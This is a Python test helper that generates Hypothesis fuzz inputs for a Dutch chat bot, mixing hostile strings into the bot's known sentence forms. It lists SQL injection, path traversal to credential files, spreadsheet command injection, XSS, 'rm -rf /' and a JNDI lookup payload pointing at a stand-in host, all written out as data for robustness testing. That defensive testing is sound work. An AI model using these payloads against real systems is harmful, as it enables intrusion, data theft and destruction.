"""Words that mean harm, and the clear forms that they are mixed with."""

from __future__ import annotations

from hypothesis import strategies as st

from bot.domain.organisation import Language
from bot.understanding.examples import EXAMPLES

LONGEST = 40_000

_HARM = (
    "'; DROP TABLE person_row; --",
    '" OR 1=1 --',
    "' UNION SELECT email FROM person_row --",
    "%27%20OR%201",
    "Robert'); DELETE FROM record_row;",
    "../../../etc/passwd",
    "..\\..\\windows\\system32",
    "file:///etc/shadow",
    "C:\\CON\\NUL",
    '=HYPERLINK("http://x.example","klik")',
    "=cmd|'/c calc'!A1",
    "+1+1",
    "@SUM(A1:A9)",
    "-2+3",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "&lt;b&gt;&amp;",
    "<!channel>",
    "<!everyone>",
    "<@U0123456>",
    "<at>Anna de Wit</at>",
    "@here @channel @Anna",
    "**vet** _schuin_ ~door~ `code`",
    "[klik hier](javascript:alert(1))",
    "```\nrm -rf /\n```",
    "${jndi:ldap://x.example/a}",
    "{{7*7}}",
    "{0.__class__.__mro__}",
    "{count} {id} %s %d %n",
    "%(name)s",
    "\x00",
    "\x1b[31m\x07\x08",
    "\u202e\u2066\u200b\ufeff",
    "\ud800",
    "\U0001f469\u200d\U0001f469\u200d\U0001f467",
    "Z" + "\u0301" * 40,
    "ﷺ" * 5,
    "İıſK",
    "١٢٣",
    "9" * 60,
    "C-99999999999999999999",
    "M-014-1 M-014-1",
    "31 februari 2027",
    "29-02-2027",
    "0001-01-01",
    "99999-12-31",
    "over 999999999 dagen",
    "\n\r\n\t\v\f\x85\u2028",
    ":" * 9,
    "//",
    ", eigenaar , uiterlijk ",
    "null",
    "__proto__",
    "nan",
    "1e999",
)
_PIECES = (
    st.sampled_from(_HARM)
    | st.text(max_size=20)
    | st.sampled_from([sentence for pair in EXAMPLES.values() for sentence in pair.values()])
    | st.sampled_from(("lindekwartier", "Sanne Bakker", "C-102", "Q-201", "M-009-3", "akkoord", "nee:", "ja, maar"))
)


def words() -> st.SearchStrategy[str]:
    """Any words: pieces in a row, some of them said again until the text is as long as a text can be."""
    several = st.lists(_PIECES, min_size=1, max_size=5)
    joined = st.tuples(st.sampled_from((" ", "", "\n", ": ")), several).map(lambda pair: pair[0].join(pair[1]))
    often = st.sampled_from((1,) * 12 + (2, 40, LONGEST))
    return st.tuples(joined, often).map(
        lambda pair: (pair[0] * min(pair[1], LONGEST // max(1, len(pair[0])) or 1))[:LONGEST]
    )


def clear_forms() -> st.SearchStrategy[str]:
    """A form that the bot knows, with harm where a slot would be."""
    sentence = st.sampled_from([pair[Language.NL] for pair in EXAMPLES.values()])
    return st.tuples(sentence, _PIECES).map(lambda pair: f"{pair[0].split(':')[0]}: {pair[1]}")
